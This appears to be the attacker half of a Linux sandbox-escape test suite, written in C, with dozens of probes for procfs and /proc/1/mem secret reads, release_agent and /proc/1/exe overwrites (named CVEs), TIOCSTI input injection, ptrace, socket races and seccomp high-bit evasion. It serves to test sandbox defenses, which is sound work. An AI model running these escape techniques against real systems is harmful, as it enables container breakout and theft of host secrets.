/*
 * The attacker's half of the escape suite: one static program, one attack per name.
 *
 *   probe NAME [ARG...]   run one attack
 *   probe --list          name<TAB>class of every attack
 *   probe --hello ...     what an honest program does (must work inside the sandbox)
 *   probe --victim ...    and the other helpers at the foot of this file: the host's side of an attack
 *
 * Exit status: 0 the attack succeeded, 1 it was refused, 2 the call was wrong (a mistake of the judge),
 * 3 it could not even be attempted (with the reason). One line on stdout says what happened.
 *
 * No attack may harm the machine it succeeds on. Where opening proves the point nothing is written, where
 * writing is the point the current value is written back, and everything else is done to objects that the
 * judge made for this one run. Calls that would do damage are made with an argument that the kernel rejects
 * only after it has checked the caller's right to make them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/quota.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/openat2.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>

enum { WON = 0, REFUSED = 1, MISUSED = 2, CANNOT = 3 };

/* Numbers that the headers of a long-lived distribution may not have yet. */
#define NR_fchmodat2 452
#define NR_open_tree_attr 467
#define X32_BIT 0x40000000UL

#define PROC_MAGIC 0x9fa0
#define SYSFS_MAGIC_NUMBER 0x62656572

static const char *self_path; /* argv[0] */

/* ---- saying what happened ------------------------------------------------------------------------- */

static int say(int status, const char *word, const char *format, va_list args)
{
	char line[6000];

	vsnprintf(line, sizeof line, format, args);
	for (char *c = line; *c; c++)
		if ((unsigned char)*c < ' ')
			*c = ' ';
	printf("%s: %s\n", word, line);
	fflush(stdout);
	return status;
}

__attribute__((format(printf, 1, 2))) static int won(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	int status = say(WON, "succeeded", format, args);
	va_end(args);
	return status;
}

__attribute__((format(printf, 1, 2))) static int refused(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	int status = say(REFUSED, "refused", format, args);
	va_end(args);
	return status;
}

__attribute__((format(printf, 1, 2))) static int cannot(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	int status = say(CANNOT, "not attempted", format, args);
	va_end(args);
	return status;
}

static const char *errno_name(int error)
{
	const char *name = strerrorname_np(error);

	return name ? name : "unknown errno";
}

static int failed(const char *what)
{
	int error = errno;

	if (error == ENOSYS)
		return cannot("%s: ENOSYS", what);
	return refused("%s: %s", what, errno_name(error));
}

/* The attack is the call itself. */
static int judged(long rc, const char *what)
{
	if (rc < 0)
		return failed(what);
	return won("%s returned %ld", what, rc);
}

/* The attack is that the call passes every check of rights and stops only at its (deliberately wrong) argument. */
static int reached(long rc, const char *what, int expected)
{
	if (rc < 0 && errno != expected)
		return failed(what);
	return won("%s got past the permission checks (%s)", what, rc < 0 ? errno_name(errno) : "0");
}

/* What an errno was in a forked child comes back as its exit status. */
static int judged_child(pid_t pid, const char *what)
{
	int status;

	if (pid < 0)
		return cannot("fork: %s", errno_name(errno));
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return cannot("waitpid: %s", errno_name(errno));
	if (WIFSIGNALED(status))
		return refused("%s: killed by signal %d", what, WTERMSIG(status));
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		return won("%s", what);
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINVAL;
	return failed(what);
}

/* ---- small things that many attacks need ---------------------------------------------------------- */

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void rest(double seconds)
{
	struct timespec t = { (time_t)seconds, (long)((seconds - (double)(time_t)seconds) * 1e9) };

	nanosleep(&t, NULL);
}

static long number(const char *text)
{
	return strtol(text, NULL, 0);
}

/* The secrets of the judge all start like this; other bytes (an empty mask, a placeholder) are no success. */
static int take_secret(int fd, const char *how)
{
	static char text[65536];
	ssize_t n = read(fd, text, sizeof text - 1);

	if (n < 0)
		return failed(how);
	text[n] = 0;
	char *secret = memmem(text, (size_t)n, "SECRET-", 7);
	if (!secret)
		return refused("%s: %zd bytes, no secret in them", how, n);
	secret[strcspn(secret, "\n")] = 0;
	return won("%s: %.200s", how, secret);
}

static int take_secret_at(int dir, const char *path)
{
	int fd = openat(dir, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		return failed(path);
	return take_secret(fd, path);
}

static int spoil(int fd, const char *how)
{
	static const char mark[] = "PWNED\n";

	if (fd < 0 || write(fd, mark, sizeof mark - 1) < 0)
		return failed(how);
	close(fd);
	return won("wrote to %s", how);
}

/* /proc/1/root, /proc/self/cwd/.. and their like: from a link, up to the root and down to the path. */
static void climb(char *out, size_t size, const char *from, const char *absolute)
{
	snprintf(out, size, "%s/../../../../../../../../../../../..%s", from, absolute);
}

static bool is_on(int fd, unsigned magic)
{
	struct statfs fs;

	return fstatfs(fd, &fs) == 0 && (unsigned)fs.f_type == magic;
}

#define NEED(count)                                                           \
	do {                                                                  \
		if (argc < 1 + (count)) {                                     \
			printf("misused: %s needs %d arguments\n", argv[0], (count)); \
			return MISUSED;                                       \
		}                                                             \
	} while (0)

#define PROBE(function) static int function(int argc, char **argv)
#define UNUSED_ARGS ((void)argc, (void)argv)

/* ---- procfs, sysfs, cgroupfs ---------------------------------------------------------------------- */

/* Writes the value that is there back. Something else bound over the file (an empty file, /dev/null) is no success. */
PROBE(write_back)
{
	NEED(1);
	char value[4096];
	int in = open(argv[1], O_RDONLY | O_CLOEXEC);
	ssize_t n = in < 0 ? -1 : read(in, value, sizeof value);

	if (in < 0 && errno == ENOENT)
		return cannot("%s: ENOENT", argv[1]);
	int out = open(argv[1], O_WRONLY | O_CLOEXEC);
	if (out < 0)
		return failed(argv[1]);
	if (!is_on(out, PROC_MAGIC))
		return refused("%s is not procfs here", argv[1]);
	if (n <= 0)
		return refused("%s opened for writing but not for reading", argv[1]);
	if (write(out, value, (size_t)n) < 0)
		return failed(argv[1]);
	return won("wrote %s back", argv[1]);
}

/* Opens the first of the given files that exists, for writing, and writes nothing. */
PROBE(open_for_writing)
{
	NEED(1);
	bool seen = false;
	int error = ENOENT;

	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK);

		if (fd >= 0) {
			if (!is_on(fd, PROC_MAGIC) && strncmp(argv[i], "/proc/", 6) == 0)
				return refused("%s is not procfs here", argv[i]);
			return won("%s is open for writing", argv[i]);
		}
		if (errno != ENOENT) {
			seen = true;
			error = errno;
		}
	}
	if (!seen)
		return cannot("%s: ENOENT", argv[1]);
	return refused("%s: %s", argv[1], errno_name(error));
}

PROBE(read_any_bytes)
{
	NEED(1);
	char text[256];
	int fd = open(argv[1], O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		return errno == ENOENT ? cannot("%s: ENOENT", argv[1]) : failed(argv[1]);
	ssize_t n = read(fd, text, sizeof text);
	if (n < 0 && errno != EAGAIN)
		return failed(argv[1]);
	if (n == 0)
		return refused("%s is empty", argv[1]);
	return won("%s is readable", argv[1]);
}

/* /proc/kallsyms and /proc/iomem are readable by all, but without the right they show zeroes. */
PROBE(kernel_addresses)
{
	NEED(1);
	char line[512];
	FILE *file = fopen(argv[1], "re");

	if (!file)
		return errno == ENOENT ? cannot("%s: ENOENT", argv[1]) : failed(argv[1]);
	for (int i = 0; i < 200 && fgets(line, sizeof line, file); i++) {
		char *rest_of_it;
		unsigned long long first = strtoull(line, &rest_of_it, 16);

		if (first || (*rest_of_it == '-' && strtoull(rest_of_it + 1, NULL, 16)))
			return won("%s shows addresses: %.40s", argv[1], line);
	}
	return refused("%s shows no addresses", argv[1]);
}

PROBE(find_text)
{
	NEED(2);
	char line[4096];
	FILE *file = fopen(argv[1], "re");

	if (!file)
		return errno == ENOENT ? cannot("%s: ENOENT", argv[1]) : failed(argv[1]);
	while (fgets(line, sizeof line, file))
		if (strstr(line, argv[2]))
			return won("%s shows %s", argv[1], line);
	return refused("%s does not show %s", argv[1], argv[2]);
}

PROBE(secret_through_link)
{
	NEED(2);
	char path[PATH_MAX];

	climb(path, sizeof path, argv[1], argv[2]);
	return take_secret_at(AT_FDCWD, path);
}

PROBE(secret_under_link)
{
	NEED(2);
	char path[PATH_MAX];

	snprintf(path, sizeof path, "%s%s", argv[1], argv[2]);
	return take_secret_at(AT_FDCWD, path);
}

/* A pid of the host means nothing inside; the mark makes sure that it is the judge's process. */
PROBE(host_process_visible)
{
	NEED(2);
	char path[64], text[8192];

	snprintf(path, sizeof path, "/proc/%s/cmdline", argv[1]);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return failed(path);
	ssize_t n = read(fd, text, sizeof text);
	if (n <= 0 || !memmem(text, (size_t)n, "--victim", 8) || !memmem(text, (size_t)n, argv[2], strlen(argv[2])))
		return refused("%s is another process", path);
	return won("%s is the host's process", path);
}

PROBE(secret_in_proc_file)
{
	NEED(2);
	char path[64];

	snprintf(path, sizeof path, "/proc/%s/%s", argv[1], argv[2]);
	return take_secret_at(AT_FDCWD, path);
}

PROBE(secret_in_host_memory)
{
	NEED(2);
	char path[64], text[128] = "";

	snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return failed(path);
	ssize_t n = pread(fd, text, sizeof text - 1, (off_t)strtoull(argv[2], NULL, 0));
	if (n < 0)
		return failed(path);
	if (!strstr(text, "SECRET-"))
		return refused("%s holds something else", path);
	return won("%s: %s", path, text);
}

/* Every writable mapping of pid 1: a supervisor that forked without exec still has its caller's environment there. */
PROBE(secret_in_memory_of_init)
{
	UNUSED_ARGS;
	static char block[1 << 20];
	char line[512];
	FILE *maps = fopen("/proc/1/maps", "re");
	int mem = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);

	if (!maps || mem < 0)
		return failed("/proc/1/mem");
	while (fgets(line, sizeof line, maps)) {
		unsigned long from, to;
		char rights[5];

		if (sscanf(line, "%lx-%lx %4s", &from, &to, rights) != 3 || rights[1] != 'w')
			continue;
		for (unsigned long at = from; at < to && at < from + (64UL << 20); at += sizeof block) {
			size_t want = to - at < sizeof block ? to - at : sizeof block;
			ssize_t n = pread(mem, block, want, (off_t)at);
			char *hit = n > 0 ? memmem(block, (size_t)n, "SECRET-", 7) : NULL;

			if (hit) {
				block[sizeof block - 1] = 0;
				hit[strcspn(hit, "\n")] = 0;
				return won("memory of pid 1: %.100s", hit);
			}
		}
	}
	return refused("no secret in the memory of pid 1");
}

/* All processes but ourselves; `what` is a file below /proc/PID, or "fd" for every descriptor. */
PROBE(secret_in_any_process)
{
	NEED(1);
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int error = ENOENT;

	if (!proc)
		return failed("/proc");
	while ((entry = readdir(proc))) {
		char path[600];
		long pid = number(entry->d_name);
		bool all = strcmp(argv[1], "fd") == 0;
		int last = all ? 256 : 1;

		if (pid <= 0 || pid == getpid())
			continue;
		for (int n = 0; n < last; n++) {
			static char text[65536];

			if (all)
				snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, n);
			else
				snprintf(path, sizeof path, "/proc/%ld/%s", pid, argv[1]);
			int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
			if (fd < 0) {
				if (errno != ENOENT)
					error = errno;
				continue;
			}
			struct stat st;
			ssize_t got = fstat(fd, &st) == 0 && (S_ISREG(st.st_mode)) ? read(fd, text, sizeof text - 1) : 0;
			close(fd);
			char *hit = got > 0 ? memmem(text, (size_t)got, "SECRET-", 7) : NULL;
			if (hit) {
				text[got] = 0;
				hit[strcspn(hit, "\n")] = 0;
				return won("%s: %.100s", path, hit);
			}
		}
	}
	return refused("nothing found in /proc/*/%s (%s)", argv[1], errno_name(error));
}

/* The binary that runs the sandbox, through the link of its own process. A running program is busy, not
 * protected: the attack that this stands for waits until it is not running (CVE-2019-5736). */
PROBE(overwrite_exe_of_init)
{
	UNUSED_ARGS;
	int fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);

	if (fd < 0 && errno != ETXTBSY)
		return failed("/proc/1/exe");
	return won("/proc/1/exe may be written (%s)", fd < 0 ? "ETXTBSY" : "open");
}

PROBE(sysfs_visible)
{
	UNUSED_ARGS;
	static const char *const places[] = { "/sys/class/net", "/sys/block", "/sys/kernel", "/sys/fs/cgroup" };

	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		DIR *dir = opendir(places[i]);
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (entry->d_name[0] != '.')
				return won("%s shows %s", places[i], entry->d_name);
	}
	return refused("nothing of the host in /sys");
}

/* release_agent (CVE-2022-0492) wherever a v1 hierarchy can be seen. */
PROBE(release_agent)
{
	UNUSED_ARGS;
	char line[4096], path[PATH_MAX];
	FILE *mounts = fopen("/proc/self/mountinfo", "re");
	int error = ENOENT;

	if (!mounts)
		return failed("/proc/self/mountinfo");
	while (fgets(line, sizeof line, mounts)) {
		char where[2048];

		if (!strstr(line, " - cgroup ") || sscanf(line, "%*s %*s %*s %*s %2047s", where) != 1)
			continue;
		snprintf(path, sizeof path, "%s/release_agent", where);
		if (open(path, O_WRONLY | O_CLOEXEC) >= 0)
			return won("%s is open for writing", path);
		if (errno != ENOENT)
			error = errno;
	}
	if (error == ENOENT)
		return cannot("no v1 hierarchy with a release_agent in sight");
	return refused("release_agent: %s", errno_name(error));
}

/* ---- terminal ------------------------------------------------------------------------------------- */

PROBE(push_input)
{
	NEED(1);
	char c = 'x';
	unsigned long high = strcmp(argv[1], "high") == 0 ? 0xdead00000000UL : 0;

	return judged(syscall(SYS_ioctl, 0, high | TIOCSTI, &c), "ioctl TIOCSTI");
}

PROBE(console_ioctl)
{
	NEED(1);
	char argument[2] = { 6 /* TIOCL_GETSHIFTSTATE, which only reads */, 0 };
	unsigned long high = strcmp(argv[1], "high") == 0 ? 0xdead00000000UL : 0;

	return judged(syscall(SYS_ioctl, 0, high | TIOCLINUX, argument), "ioctl TIOCLINUX");
}

PROBE(write_dev_tty)
{
	NEED(1);
	int fd = open("/dev/tty", O_WRONLY | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		return failed("/dev/tty");
	return judged(write(fd, argv[1], strlen(argv[1])), "write to /dev/tty");
}

PROBE(take_terminal)
{
	UNUSED_ARGS;
	pid_t pid = fork();

	if (pid == 0) {
		setsid();
		_exit(ioctl(0, TIOCSCTTY, 0) < 0 ? errno : 0);
	}
	return judged_child(pid, "ioctl TIOCSCTTY");
}

/* ---- inherited descriptors and environment -------------------------------------------------------- */

PROBE(inherited_file)
{
	NEED(1);
	int fd = (int)number(argv[1]);

	lseek(fd, 0, SEEK_SET);
	return take_secret(fd, "inherited descriptor");
}

PROBE(inherited_directory_fchdir)
{
	NEED(2);
	if (fchdir((int)number(argv[1])) < 0)
		return failed("fchdir");
	return take_secret_at(AT_FDCWD, argv[2]);
}

PROBE(inherited_directory_openat)
{
	NEED(2);
	return take_secret_at((int)number(argv[1]), argv[2]);
}

PROBE(inherited_socket)
{
	NEED(1);
	return judged(write((int)number(argv[1]), "hello", 5), "write to inherited socket");
}

PROBE(reopen_stdin_for_writing)
{
	UNUSED_ARGS;
	return spoil(open("/proc/self/fd/0", O_WRONLY | O_APPEND | O_CLOEXEC), "/proc/self/fd/0");
}

PROBE(inherited_namespace)
{
	NEED(1);
	return judged(setns((int)number(argv[1]), 0), "setns on an inherited descriptor");
}

PROBE(variable)
{
	NEED(1);
	const char *value = getenv(argv[1]);

	if (!value)
		return refused("%s is not set", argv[1]);
	if (!strstr(value, "SECRET-"))
		return refused("%s has another value", argv[1]);
	return won("%s=%s", argv[1], value);
}

/* ---- unix sockets --------------------------------------------------------------------------------- */

/* '@' in front is an abstract name. */
static socklen_t unix_address(struct sockaddr_un *address, const char *name)
{
	memset(address, 0, sizeof *address);
	address->sun_family = AF_UNIX;
	strncpy(address->sun_path, name, sizeof address->sun_path - 1);
	if (name[0] == '@') {
		address->sun_path[0] = 0;
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name));
	}
	return sizeof *address;
}

static void patience(int fd, double seconds)
{
	struct timeval t = { (time_t)seconds, (suseconds_t)((seconds - (double)(time_t)seconds) * 1e6) };

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
}

/* A connection counts when the server has answered with its secret: something in between may accept too. */
static int converse(int fd, const char *how)
{
	if (send(fd, "hello\n", 6, MSG_NOSIGNAL) < 0)
		return failed(how);
	return take_secret(fd, how);
}

static int unix_connect_type(const char *name, int type)
{
	struct sockaddr_un address;
	socklen_t length = unix_address(&address, name);
	int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return failed("socket");
	patience(fd, 2);
	if (connect(fd, (struct sockaddr *)&address, length) < 0)
		return failed("connect");
	return converse(fd, "unix socket");
}

PROBE(unix_stream)
{
	NEED(1);
	return unix_connect_type(argv[1], SOCK_STREAM);
}

PROBE(unix_seqpacket)
{
	NEED(1);
	return unix_connect_type(argv[1], SOCK_SEQPACKET);
}

PROBE(unix_datagram)
{
	NEED(2);
	struct sockaddr_un address;
	socklen_t length = unix_address(&address, argv[2]);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct iovec part = { "hello", 5 };
	struct mmsghdr message = { .msg_hdr = { .msg_name = &address, .msg_namelen = length, .msg_iov = &part, .msg_iovlen = 1 } };

	if (fd < 0)
		return failed("socket");
	if (strcmp(argv[1], "sendto") == 0)
		return judged(sendto(fd, "hello", 5, 0, (struct sockaddr *)&address, length), "sendto");
	if (strcmp(argv[1], "sendmsg") == 0)
		return judged(sendmsg(fd, &message.msg_hdr, 0), "sendmsg");
	if (strcmp(argv[1], "sendmmsg") == 0)
		return judged(sendmmsg(fd, &message, 1, 0), "sendmmsg");
	if (connect(fd, (struct sockaddr *)&address, length) < 0)
		return failed("connect");
	return judged(send(fd, "hello", 5, 0), "send");
}

PROBE(unix_receive_descriptor)
{
	NEED(1);
	struct sockaddr_un address;
	socklen_t length = unix_address(&address, argv[1]);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), got;
	char byte, control[CMSG_SPACE(sizeof got)];
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };

	if (fd < 0)
		return failed("socket");
	patience(fd, 2);
	if (connect(fd, (struct sockaddr *)&address, length) < 0)
		return failed("connect");
	if (send(fd, "hello\n", 6, MSG_NOSIGNAL) < 0 || recvmsg(fd, &message, 0) < 0)
		return failed("recvmsg");
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	if (!header || header->cmsg_type != SCM_RIGHTS)
		return refused("no descriptor came");
	memcpy(&got, CMSG_DATA(header), sizeof got);
	lseek(got, 0, SEEK_SET);
	return take_secret(got, "descriptor from outside");
}

/* A name that a check by path does not recognise: the descriptor of the socket's own inode. */
PROBE(unix_by_descriptor)
{
	NEED(1);
	char path[64];
	int fd = open(argv[1], O_PATH | O_CLOEXEC);

	if (fd < 0)
		return failed(argv[1]);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return unix_connect_type(path, SOCK_STREAM);
}

/* Two names of equal length taking turns in the memory that a call points to. */
struct flip {
	volatile char *memory;
	const char *one, *other;
	size_t length;
	volatile bool stop;
};

static void *flipper(void *argument)
{
	struct flip *flip = argument;
	bool turn = false;

	while (!flip->stop) {
		const char *from = (turn = !turn) ? flip->one : flip->other;

		for (size_t i = 0; i < flip->length; i++)
			flip->memory[i] = from[i];
		for (volatile int spin = 0; spin < 200; spin++)
			;
	}
	return NULL;
}

PROBE(unix_race)
{
	NEED(3); /* own name, host's name, seconds */
	struct sockaddr_un own, address, peer;
	socklen_t length = unix_address(&own, argv[1]);
	int mine = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	struct flip flip = { address.sun_path, argv[1], argv[2], strlen(argv[1]), false };
	pthread_t thread;
	int status = -1, error = 0;
	double end = now() + strtod(argv[3], NULL);

	if (strlen(argv[1]) != strlen(argv[2]))
		return MISUSED;
	if (mine < 0 || bind(mine, (struct sockaddr *)&own, length) < 0 || listen(mine, 64) < 0)
		error = errno; /* without a socket of our own there is still the other one */
	unix_address(&address, argv[1]);
	if (pthread_create(&thread, NULL, flipper, &flip) != 0)
		return cannot("no thread");
	while (status < 0 && now() < end) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
		socklen_t n = sizeof peer;

		if (fd < 0) {
			error = errno;
			break;
		}
		memset(&peer, 0, sizeof peer);
		if (connect(fd, (struct sockaddr *)&address, length) < 0)
			error = errno;
		else if (getpeername(fd, (struct sockaddr *)&peer, &n) == 0 && strcmp(peer.sun_path, argv[1]) != 0)
			status = judged(send(fd, "hello", 5, 0), "connect won the race");
		close(fd);
		while ((fd = accept4(mine, NULL, NULL, SOCK_CLOEXEC)) >= 0) /* our own end, so that the queue never fills */
			close(fd);
	}
	flip.stop = true;
	pthread_join(thread, NULL);
	unlink(argv[1]);
	return status >= 0 ? status : refused("the race was never won (last error %s)", errno_name(error));
}

/* ---- system calls --------------------------------------------------------------------------------- */

/* A child that waits, holds a secret, and dies with us. */
static char sibling_secret[64] = "nothing yet";

static pid_t sibling(void)
{
	int ready[2];
	char byte;

	if (pipe(ready) < 0)
		return -1;
	pid_t pid = fork();
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
		strcpy(sibling_secret, "SECRET-of-the-sibling");
		if (write(ready[1], "r", 1) != 1)
			_exit(1);
		for (;;)
			pause();
	}
	if (pid > 0 && read(ready[0], &byte, 1) != 1)
		return -1;
	return pid;
}

static int with_sibling_done(pid_t pid, int status)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return status;
}

PROBE(ptrace_traceme)
{
	UNUSED_ARGS;
	pid_t pid = fork();

	if (pid == 0)
		_exit(ptrace(PTRACE_TRACEME, 0, 0, 0) < 0 ? errno : 0);
	return judged_child(pid, "ptrace TRACEME");
}

PROBE(ptrace_seize)
{
	pid_t own = argc > 1 ? 0 : sibling(), pid = argc > 1 ? (pid_t)number(argv[1]) : own;

	if (pid <= 0)
		return cannot("no process to trace");
	long rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
	int status = judged(rc, "ptrace SEIZE");
	if (rc == 0 && !own) { /* let the host's process go again, running */
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	return own ? with_sibling_done(own, status) : status;
}

PROBE(read_other_memory)
{
	pid_t own = argc > 2 ? 0 : sibling(), pid = argc > 2 ? (pid_t)number(argv[1]) : own;
	char text[64] = "";
	struct iovec here = { text, sizeof text - 1 };
	struct iovec there = { argc > 2 ? (void *)strtoull(argv[2], NULL, 0) : sibling_secret, sizeof text - 1 };
	ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);
	int status = n < 0			   ? failed("process_vm_readv")
		     : strncmp(text, "SECRET-", 7) ? refused("process_vm_readv: other bytes")
						   : won("process_vm_readv: %s", text);

	return own ? with_sibling_done(own, status) : status;
}

PROBE(take_descriptor)
{
	pid_t own = argc > 2 ? 0 : sibling(), pid = argc > 2 ? (pid_t)number(argv[1]) : own;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return own ? with_sibling_done(own, failed("pidfd_open")) : failed("pidfd_open");
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, argc > 2 ? number(argv[2]) : 1, 0);
	if (own)
		return with_sibling_done(own, judged(fd, "pidfd_getfd"));
	if (fd < 0)
		return failed("pidfd_getfd");
	lseek(fd, 0, SEEK_SET);
	return take_secret(fd, "pidfd_getfd");
}

PROBE(compare_processes)
{
	UNUSED_ARGS;
	pid_t pid = sibling();

	if (pid < 0)
		return cannot("no sibling");
	return with_sibling_done(pid, judged(syscall(SYS_kcmp, getpid(), pid, 1 /* KCMP_VM */, 0, 0), "kcmp"));
}

PROBE(load_bpf)
{
	UNUSED_ARGS;
	union bpf_attr attr = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };

	return judged(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr), "bpf");
}

PROBE(perf_event)
{
	UNUSED_ARGS;
	struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_TASK_CLOCK,
					.exclude_kernel = 1, .exclude_hv = 1 };

	return judged(syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0), "perf_event_open");
}

PROBE(user_faults)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY), "userfaultfd");
}

PROBE(io_uring)
{
	UNUSED_ARGS;
	char params[256] = { 0 };

	return judged(syscall(SYS_io_uring_setup, 4, params), "io_uring_setup");
}

PROBE(key_add)
{
	NEED(1);
	return judged(syscall(SYS_add_key, "user", argv[1], "x", 1, KEY_SPEC_USER_KEYRING), "add_key");
}

PROBE(key_request)
{
	NEED(1);
	char text[128] = "";
	long key = syscall(SYS_request_key, "user", argv[1], NULL, 0);

	if (key < 0)
		return failed("request_key");
	if (syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) < 0)
		return failed("keyctl READ");
	return won("key of the caller: %s", text);
}

PROBE(key_session)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0), "keyctl GET_KEYRING_ID");
}

PROBE(mount_tmpfs)
{
	NEED(1);
	return judged(mount("none", argv[1], "tmpfs", 0, NULL), "mount tmpfs");
}

/* The kernel looks at the low half of the register only; a filter that compares all of it is blind. */
PROBE(mount_high_bits)
{
	NEED(1);
#ifdef __x86_64__
	long rc;
	register const char *r10 __asm__("r10") = 0;
	register const void *r8 __asm__("r8") = 0;

	r10 = (const char *)0UL;
	__asm__ volatile("syscall"
			 : "=a"(rc)
			 : "a"(0xdead00000000UL | SYS_mount), "D"("none"), "S"(argv[1]), "d"("tmpfs"), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	if (rc < 0) {
		errno = (int)-rc;
		return failed("mount with high bits in the number");
	}
	return won("mount with high bits in the number");
#else
	return cannot("not this architecture");
#endif
}

PROBE(mount_bind_over)
{
	NEED(2); /* what, over what: afterwards the second name shows the first */
	if (mount(argv[1], argv[2], NULL, MS_BIND, NULL) < 0)
		return failed("mount --bind");
	return won("bound %s over %s", argv[1], argv[2]);
}

PROBE(mount_proc)
{
	NEED(1);
	return judged(mount("proc", argv[1], "proc", 0, NULL), "mount proc");
}

PROBE(mount_overlay)
{
	NEED(4);
	char options[3 * PATH_MAX];

	snprintf(options, sizeof options, "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", argv[2], argv[3], argv[4]);
	return judged(mount("overlay", argv[1], "overlay", 0, options), "mount overlay");
}

PROBE(remount_and_write)
{
	NEED(2); /* mount point, file */
	if (mount(NULL, argv[1], NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return failed("remount");
	return spoil(open(argv[2], O_WRONLY | O_APPEND | O_CLOEXEC), argv[2]);
}

/* These two name a directory that is no mount point: nothing to unmount or to turn to, on a host or anywhere
 * else, but the kernel says so only to those who may. */
PROBE(unmount)
{
	NEED(1);
	return reached(umount2(argv[1], MNT_DETACH), "umount2", EINVAL);
}

PROBE(change_root_mount)
{
	NEED(1);
	long rc = syscall(SYS_pivot_root, argv[1], argv[1]);

	return reached(rc, "pivot_root", rc < 0 && errno == EBUSY ? EBUSY : EINVAL);
}

PROBE(change_root)
{
	NEED(1);
	return judged(chroot(argv[1]), "chroot");
}

PROBE(unshare_flag)
{
	NEED(1);
	return judged(unshare((int)number(argv[1])), "unshare");
}

PROBE(enter_own_namespace)
{
	UNUSED_ARGS;
	int fd = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return failed("/proc/self/ns/uts");
	return judged(setns(fd, CLONE_NEWUTS), "setns");
}

PROBE(enter_host_namespaces)
{
	NEED(1);
	int fd = (int)syscall(SYS_pidfd_open, (pid_t)number(argv[1]), 0);

	if (fd < 0)
		return failed("pidfd_open");
	return judged(setns(fd, CLONE_NEWNS | CLONE_NEWUTS), "setns by pidfd");
}

PROBE(clone_user_namespace)
{
	UNUSED_ARGS;
